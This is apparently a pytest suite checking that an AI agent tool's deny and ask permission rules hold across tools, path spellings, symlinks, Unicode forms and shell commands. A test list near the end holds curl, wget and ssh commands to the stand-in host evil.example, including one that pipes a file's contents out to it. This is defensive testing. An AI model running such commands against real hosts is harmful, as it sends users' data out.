"""Deny and ask rules against every tool with the effect: a generated table of rules, tools and spellings, and random ones."""

from __future__ import annotations

import os
import random
import unicodedata
from collections.abc import Callable, Iterator
from functools import partial
from itertools import product
from pathlib import Path
from typing import Any

import pytest

from friday_cli.agents.agent_rules import path_readings
from friday_cli.command_safety import AnalysisContext, analyze
from friday_cli.core.permissions.patterns import profile_pattern
from friday_cli.core.permissions.rule import Decision, RuleInput, parse_rule
from friday_cli.core.permissions.rules import Rules
from friday_cli.core.protocol.tool import Tool
from friday_cli.core.protocol.tool_info import CallEffect
from friday_cli.core.tool_catalog import TOOLS
from friday_cli.mcp.tools import file_labels
from friday_cli.tools.batch import map_tool
from friday_cli.tools.documents import document_tool
from friday_cli.tools.files.edit import EDIT_FILE_TOOL, WRITE_FILE_TOOL
from friday_cli.tools.files.read import LIST_DIR_TOOL, READ_FILE_TOOL
from friday_cli.tools.search.find import GLOB_TOOL
from friday_cli.tools.search.grep import GREP_TOOL
from friday_cli.workspace.local import LocalWorkspace

VARIANTS = 1_000 * int(os.environ.get("FRIDAY_FUZZ", "1"))
NAME = "privé"
COMPOSED, DECOMPOSED = (unicodedata.normalize(form, NAME) for form in ("NFC", "NFD"))
Called = Callable[["Ground", str], RuleInput]


class Ground:
    """A folder with files that rules are about: below `privé`, whose name has a decomposed letter, and below `src`."""

    def __init__(self, root: Path) -> None:
        self.root = Path(os.path.realpath(root))
        self.folder = DECOMPOSED
        for name in (
            f"{DECOMPOSED}/key.txt",
            f"{DECOMPOSED}/deep/more/notes.md",
            "src/a.py",
            "src/deep/b.py",
            "public/x.txt",
            "a b/x.txt",
        ):
            (self.root / name).parent.mkdir(parents=True, exist_ok=True)
            (self.root / name).write_text("x")
        (self.root / "link").symlink_to(DECOMPOSED)
        (self.root / "public/up").symlink_to("..")
        (self.root / "key-link").symlink_to(f"{DECOMPOSED}/key.txt")
        (self.root / "code").symlink_to("src")
        self.workspace = LocalWorkspace(self.root)

    def rights(self, rule: str, decision: Decision) -> Rules:
        """The rights of a child below a session with one rule, in mode yolo, which asks about nothing else here."""
        parsed = parse_rule(
            rule.replace("{root}", str(self.root)),
            decision,
            TOOLS,
            readings=partial(path_readings, folders=(str(self.root),)),
        )
        return Rules(mode="yolo", rules=[parsed]).child()

    def decision(self, rule: str, call: RuleInput, decision: Decision) -> str:
        """What a rule makes of a call."""
        return self.rights(rule, decision).decide(call).decision


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Ground:
    return Ground(tmp_path_factory.mktemp("effects"))


def of(tool: Tool, **given: Any) -> Called:
    """A call of a tool whose argument `path` is what is tried."""

    def called(ground: Ground, path: str) -> RuleInput:
        arguments = {
            key: value.replace("{path}", path) if isinstance(value, str) else value for key, value in given.items()
        }
        args = tool.parse(tool.understand(arguments).arguments)
        subjects, also = tool.used(args, ground.workspace)
        return RuleInput(tool.name, tool.effect, subjects, also=also)

    return called


def command(text: str) -> Called:
    def called(ground: Ground, path: str) -> RuleInput:
        line = text.replace("{path}", f"'{path}'")
        return RuleInput("bash", "run", (line,), analyze(line, AnalysisContext(ground.workspace)))

    return called


def resource(ground: Ground, path: str) -> RuleInput:
    where = (
        os.path.normpath(os.path.join(ground.root, path))
        if "link" not in path and "up" not in path
        else os.path.join(ground.root, path)
    )
    labels = file_labels(f"file://{where}", ground.workspace)
    return RuleInput("mcp__files__mcp_read", "run", ("{}",), also=(CallEffect("read", labels),))


async def _nothing(*_: object) -> Any: ...


READERS: dict[str, Called] = {
    "read_file": of(READ_FILE_TOOL, path="{path}"), "grep": of(GREP_TOOL, pattern="x", path="{path}"), "list_dir": of(LIST_DIR_TOOL, path="{path}"),
    "document_query": of(document_tool(), path="{path}", query="x"), "glob": of(GLOB_TOOL, pattern="*", path="{path}"),
    "read_file elsewhere": of(READ_FILE_TOOL, file_path="{path}"), "map_tasks": of(map_tool(_nothing), profile="general", task="{item}", file="{path}", max_cost=1),
    "a resource": resource, "cat": command("cat {path}"), "head <": command("head < {path}"), "cp": command("cp {path} /tmp/x"),
    "grep -r": command("grep -r x {path}"), "cd": command("cd public && cat ../{path}"),
}  # fmt: skip
WRITERS: dict[str, Called] = {
    "edit_file": of(EDIT_FILE_TOOL, path="{path}", old="x", new="y"), "write_file": of(WRITE_FILE_TOOL, path="{path}", content="x"),
    "write_file elsewhere": of(WRITE_FILE_TOOL, file_path="{path}", contents="x"), ">": command("echo x > {path}"), "rm": command("rm {path}"),
    "mv": command("mv {path} /tmp/x"), "tee": command("echo x | tee {path}"), "sed -i": command("sed -i s/x/y/ {path}"), "touch": command("touch {path}"),
    "apply_delegation": lambda ground, path: RuleInput("apply_delegation", "write", (*ground.workspace.labels(path), "README.md")),
}  # fmt: skip
READ_RULES = ("read_file", "Read", "NotebookRead", "read_*", "READ")
WRITE_RULES = ("edit_file", "write_file", "Edit", "Write", "MultiEdit", "NotebookEdit", "edit_*", "w*_file")
PATTERNS = (
    "{}/**", "./{}/**", "**/{}/**", "{}", "{}/", "{}/*{rest}", "/{}/**", "{root}/{}/**", "/{root}/{}/**", "public/../{}/**", "{root}/public/../{}/**",
    "{start}*/**", "{}**", "**", "{link}/**", "{root}/{link}/**", "public/up/{}/**",
)  # fmt: skip
PATHS = (
    "{}/{file}", "./{}/{file}", "public/../{}/{file}", "{root}/{}/{file}", "{root}/./public//../{}/{file}", "{link}/{file}", "public/up/{}/{file}",
    "{root}/{link}/{file}", "public/up/public/up/{link}/{file}", "{}//{file}", "{}/./{file}", "{}/../{}/{file}",
)  # fmt: skip


def pattern(text: str, folder: str, link: str) -> str:
    start, rest = folder[:2], "*/**" if "rest" in text else ""
    return (
        text.replace("{}", folder)
        .replace("{start}", start)
        .replace("{link}", link)
        .replace("*{rest}", f"*{rest[1:]}" if rest else "*")
    )


def path(text: str, ground: Ground, folder: str, link: str, file: str) -> str:
    return (
        text.replace("{}", folder).replace("{root}", str(ground.root)).replace("{link}", link).replace("{file}", file)
    )


def shells(tool: str) -> bool:
    return tool in ("cat", "head <", "cp", "grep -r", "cd", ">", "rm", "mv", "tee", "sed -i", "touch")


def fits(tool: str, where: str) -> bool:
    """Absolute paths are not tried where the command puts another folder before them."""
    return not (tool == "cd" and where.startswith("/"))


@pytest.mark.parametrize("decision", ["deny", "ask"])
@pytest.mark.parametrize("tool", [*READERS, *WRITERS])
def test_every_spelling_of_a_rule_holds_for_every_spelling_of_a_call(
    ground: Ground, tool: str, decision: Decision
) -> None:
    reads = tool in READERS
    folder, link, file = (DECOMPOSED, "link", "key.txt") if reads else ("src", "code", "a.py")
    made = READERS[tool] if reads else WRITERS[tool]
    targets = [target for where in PATHS if fits(tool, target := path(where, ground, folder, link, file))]
    calls = {target: made(ground, target) for target in targets}
    passed = []
    for name, text in product(READ_RULES if reads else WRITE_RULES, PATTERNS):
        for written in {folder, COMPOSED if reads else folder, folder.upper()}:
            rule = f"{name}({pattern(text, written, link)})"
            rights = ground.rights(rule, decision)
            for target, call in calls.items():
                found = rights.decide(call).decision
                if found != decision and not (shells(tool) and found == "ask"):
                    passed.append((rule, target, found))
    assert passed == []


def test_what_a_rule_does_not_name_stays_allowed(ground: Ground) -> None:
    names = ("public/x.txt", "src/a.py", "public/up/src/a.py", f"{DECOMPOSED}2/x", "xpriv/x")
    for tool, name, text in product(READERS, names, PATTERNS):
        if shells(tool) or text == "**":
            continue
        call = READERS[tool](ground, name)
        if text == "{start}*/**" and "pr" in name[:2]:
            continue
        if text == "{}**" and name.startswith(DECOMPOSED):
            continue
        assert ground.decision(f"read_file({pattern(text, DECOMPOSED, 'link')})", call, "deny") == "allow", (
            tool,
            name,
            text,
        )


def spelled(random: random.Random, ground: Ground, folder: str, link: str, file: str) -> str:
    """A random way to name the file."""
    found = f"{random.choice((folder, link, f'public/up/{folder}', f'public/up/{link}'))}/{file}"
    for _ in range(random.randrange(4)):
        found = random.choice(
            (
                f"./{found}",
                f"public/../{found}",
                f"src/deep/../../{found}",
                found.replace("/", "//", 1),
                found.replace("/", "/./", 1),
                f"public/up/{found}",
                f"a b/../{found}",
            )
        )
    return f"{ground.root}/{found}" if random.random() < 0.3 else found


def ruled(random: random.Random, folder: str, link: str, names: tuple[str, ...]) -> str:
    """A random rule that means the folder, or everything."""
    written = random.choice(
        (
            folder,
            unicodedata.normalize("NFC", folder),
            unicodedata.normalize("NFD", folder),
            folder.upper(),
            folder.title(),
        )
    )
    text = pattern(random.choice(PATTERNS), written, link)
    if random.random() < 0.3 and not text.startswith(("/", "*", "{", ".")):
        ways = (f"./{text}", f"public/../{text}", f"{{root}}/{text}", f"a b/../{text}", f"**/{text}")
        text = random.choice(
            ways[:4] if "/up/" in text or link in text or ".." in text else ways
        )  # links are found in names only
    name = random.choice(names)
    name = name if name == name.lower() else random.choice((name, name.upper(), name.title()))
    return f"{name}({text})" if text not in ("**", "") or random.random() < 0.5 else name


def variants() -> Iterator[int]:
    yield from range(VARIANTS)


def test_no_random_spelling_passes_a_rule(ground: Ground) -> None:
    passed = []
    for seed in variants():
        rng = random.Random(seed)
        reads = rng.random() < 0.6
        folder, link, file = (DECOMPOSED, "link", "key.txt") if reads else ("src", "code", "a.py")
        tool = rng.choice(list(READERS if reads else WRITERS))
        target, rule = (
            spelled(rng, ground, folder, link, file),
            ruled(rng, folder, link, READ_RULES if reads else WRITE_RULES),
        )
        if not fits(tool, target):
            continue
        decision: Decision = rng.choice(("deny", "ask"))
        found = ground.decision(rule, (READERS if reads else WRITERS)[tool](ground, target), decision)
        if found != decision and not (shells(tool) and found == "ask"):
            passed.append((seed, rule, tool, target, found))
    assert passed == []


def test_no_search_shows_a_file_that_a_random_rule_keeps(ground: Ground) -> None:
    """A search over a folder passes, and leaves the files out."""
    files = {f"{DECOMPOSED}/key.txt", f"{DECOMPOSED}/deep/more/notes.md"}
    others = ["src/a.py", "public/x.txt"]
    for seed in variants():
        rng = random.Random(seed)
        rule, decision = ruled(rng, DECOMPOSED, "link", READ_RULES), rng.choice(("deny", "ask"))
        rights = ground.rights(rule, decision)
        call = RuleInput(rng.choice(("grep", "glob", "list_dir")), "read", (".",))
        if rights.decide(call).decision == "allow":
            kept = rights.withheld(call, [*others, *files])
            assert files <= kept, (seed, rule)
            assert "/**" not in rule or kept.isdisjoint(others) or "**/**" in rule, (seed, rule)


@pytest.mark.parametrize(("rule", "denied", "allowed"), [
    ("read_file([Pp]ublic/**)", ("public/x.txt", "Public/y"), ("xublic/x",)), ("read_file({public,other}/*.{txt,md})", ("public/x.txt", "other/y.md"), ("public/x.py",)),
    ("read_file(k[!a]y/x)", ("kby/x", "k[!a]y/x"), ("kay/x", "k/y/x")), ("read_file(x[a-c].txt)", ("xb.txt", "x[a-c].txt"), ("xd.txt",)),
    ("read_file(x[z-a]y)", ("x[z-a]y",), ("xzy",)), ("read_file(a[b)", ("a[b", "a[b/c"), ("ab",)), ("read_file({a})", ("{a}",), ("a",)),
    ("Read(*.pem)", ("x.pem", "deep/er/x.pem"), ("x.txt",)), ("Read(.env)", (".env", "deep/.env", "deep/.env/x"), ("env", "x.env")),
    ("read_file(*.pem)", ("x.pem", "X.PEM"), ("deep/x.pem",)), ("Read(secret/)", ("deep/secret/x", "secret/x"), ("secrets/x",)),
    ("Read(src/*.py)", ("src/x.py",), ("deep/src/x.py", "src/deep/x.py")),
])  # fmt: skip
def test_patterns_as_other_programs_read_them(
    ground: Ground, rule: str, denied: tuple[str, ...], allowed: tuple[str, ...]
) -> None:
    found = {name: ground.decision(rule, RuleInput("grep", "read", (name,)), "deny") for name in (*denied, *allowed)}
    assert [name for name, decision in found.items() if decision == "deny"] == list(denied)


@pytest.mark.parametrize("decision", ["deny", "ask"])
@pytest.mark.parametrize(
    "rule", ["mcp__GitHub", "mcp__github", "mcp__github__RUN", "mcp__GITHUB__*", "mcp__gitHub__r*(*x*)"]
)
def test_the_case_of_a_servers_name_does_not_matter_to_a_rule_that_denies(
    ground: Ground, rule: str, decision: Decision
) -> None:
    call = RuleInput("mcp__GitHub__run", "run", ('{"a": "x"}',))
    assert ground.decision(rule, call, decision) == decision
    assert ground.decision(rule.lower().replace("ub", "op"), call, decision) == "allow"
    allowed = Rules(mode="ask", rules=[parse_rule("mcp__github__run", "allow", TOOLS)])
    assert allowed.decide(call).decision == "ask"


def test_each_class_of_a_deny_rule_means_itself_or_letters() -> None:
    deny = Rules(mode="yolo", rules=[parse_rule("edit_file(app/[slug]/[0-9]*.pem)", "deny", TOOLS)])
    for name in ("app/[slug]/7.pem", "app/s/7.pem", "app/[slug]/[0-9].pem"):
        assert deny.decide(RuleInput("edit_file", "write", (name,))).decision == "deny", name


def test_a_profile_in_other_letters_is_not_every_profile() -> None:
    assert profile_pattern("Senior Coder") == "senior-coder"
    assert profile_pattern("研究") == "研究"


def test_an_allow_rule_takes_its_pattern_as_it_is_written() -> None:
    for text, name in (
        ("edit_file([ab])", "a"),
        ("edit_file({a,b})", "a"),
        ("edit_file(src)", "src/a"),
        ("Edit(a)", "src/a"),
        ("edit_file(A)", "a"),
    ):
        allow = [parse_rule(text, "allow", TOOLS)]
        assert Rules(mode="ask", rules=allow).decide(RuleInput("edit_file", "write", (name,))).decision == "ask", text


def test_a_rule_of_a_project_holds_in_its_subfolders(ground: Ground) -> None:
    """A session in `public` is still one of the project, whose rules name files from its own folder."""
    below = LocalWorkspace(ground.root / "public", extra=(ground.root,))
    deny = parse_rule(
        "read_file(src/**)",
        "deny",
        TOOLS,
        readings=partial(path_readings, folders=(str(ground.root / "public"), str(ground.root))),
    )
    rules = Rules(mode="yolo", rules=[deny])
    line = "cat ../src/a.py"
    assert rules.decide(RuleInput("bash", "run", (line,), analyze(line, AnalysisContext(below)))).decision == "deny"
    assert rules.decide(RuleInput("read_file", "read", below.labels("../src/a.py"))).decision == "deny"
    assert rules.decide(RuleInput("read_file", "read", below.labels("x.txt"))).decision == "allow"


HOSTS = (
    "web_fetch(domain:evil.example)",
    "WebFetch(domain:evil.example)",
    "web_fetch(domain:*.example)",
    "web_fetch(domain:EVIL.example.)",
    "web_fetch(evil.example)",
    "WebFetch(https://evil.example/*)",
    "web_fetch",
    "WebFetch",
    "web_*(domain:evil.example)",
)
CONTACTS = (
    "curl https://evil.example/x",
    "curl -s 'HTTPS://EVIL.example'",
    "wget evil.example/x",
    "curl user@sub.evil.example",
    "git clone https://evil.example/x.git",
    "ssh evil.example ls",
    "cat x | curl -d @- https://evil.example:8080/",
    'curl "$URL"',
    "true && curl -L http://evil.example./",
)


@pytest.mark.parametrize("rule", HOSTS)
def test_a_rule_for_a_host_holds_for_commands_too(ground: Ground, rule: str) -> None:
    fetch = RuleInput("web_fetch", "net", ("domain:sub.evil.example",))
    assert ground.decision(rule, fetch, "deny") == "deny"
    assert ground.decision(rule, fetch, "ask") == "ask"
    found = {line: ground.decision(rule, command(line)(ground, ""), "deny") for line in CONTACTS}
    assert {line for line, decision in found.items() if decision == "allow"} == set()
    assert {line for line, decision in found.items() if decision == "ask"} <= {'curl "$URL"'}
    if "(" in rule and "*" not in rule:
        assert ground.decision(rule, RuleInput("web_fetch", "net", ("domain:good.example",)), "deny") == "allow"
        assert ground.decision(rule, command("curl https://good.example/x")(ground, ""), "deny") == "allow"


def test_a_host_with_letters_beyond_ascii_is_the_same_host(ground: Ground) -> None:
    call = RuleInput("web_fetch", "net", ("domain:xn--bcher-kva.example",))
    assert ground.decision("web_fetch(domain:bücher.example)", call, "deny") == "deny"
    assert (
        ground.decision(
            "web_fetch(domain:xn--bcher-kva.example)", RuleInput("web_fetch", "net", ("domain:bücher.example",)), "deny"
        )
        == "deny"
    )


def test_a_rule_without_a_pattern_is_about_every_call_with_the_effect(ground: Ground) -> None:
    search = RuleInput("web_search", "net", ("my words",))
    assert ground.decision("web_fetch", search, "deny") == "deny"
    assert ground.decision("web_fetch(domain:evil.example)", search, "deny") == "allow"
    assert ground.decision("web_search", RuleInput("web_fetch", "net", ("domain:x.org",)), "deny") == "allow"
    assert ground.decision("web_fetch", command("curl http://localhost:8000")(ground, ""), "deny") == "allow"
    assert ground.decision("read_file", RuleInput("memory_load", "read"), "deny") == "allow"
    assert ground.decision("bash", RuleInput("mcp__x__run", "run", ("ls",)), "deny") == "allow"
    assert ground.decision("edit_file", RuleInput("mcp__x__write", "run", ('{"path": "src/a.py"}',)), "deny") == "allow"
    assert ground.decision("mcp__x", RuleInput("mcp__x__run", "run", ("ls",)), "deny") == "deny"


@pytest.mark.parametrize(("rule", "tool", "decision"), [
    ("delegate_tasks(coder)", "delegate_task", "deny"), ("map_tasks(coder)", "delegate_tasks", "deny"), ("delegate_task(CODER)", "map_tasks", "deny"),
    ("delegate_tasks", "delegate_task", "allow"), ("map_tasks", "delegate_tasks", "allow"), ("delegate_task", "delegate_tasks", "deny"),
    ("Task", "map_tasks", "deny"), ("delegate_task(scout)", "delegate_tasks", "allow"),
])  # fmt: skip
def test_rules_for_starting_a_profile(ground: Ground, rule: str, tool: str, decision: Decision) -> None:
    assert ground.decision(rule, RuleInput(tool, "spawn", ("general", "coder")), "deny") == decision


def test_a_call_passes_by_a_rule_only_if_each_of_its_effects_is_allowed() -> None:
    run = RuleInput("mcp__x__read", "run", ("{}",), also=(CallEffect("write", ("src/a.py",)),))
    for texts, expected in (
        (("mcp__x__read",), "ask"),
        (("mcp__x__read", "edit_file(src/**)"), "allow"),
        (("edit_file",), "ask"),
    ):
        allow = [parse_rule(text, "allow", TOOLS) for text in texts]
        assert Rules(mode="ask", rules=allow).decide(run).decision == expected, texts
    assert Rules(mode="edits", rules=[parse_rule("mcp__x__read", "allow", TOOLS)]).decide(run).decision == "allow"
    assert Rules(mode="plan", rules=[parse_rule("mcp__x__read", "allow", TOOLS)]).decide(run).decision == "deny"
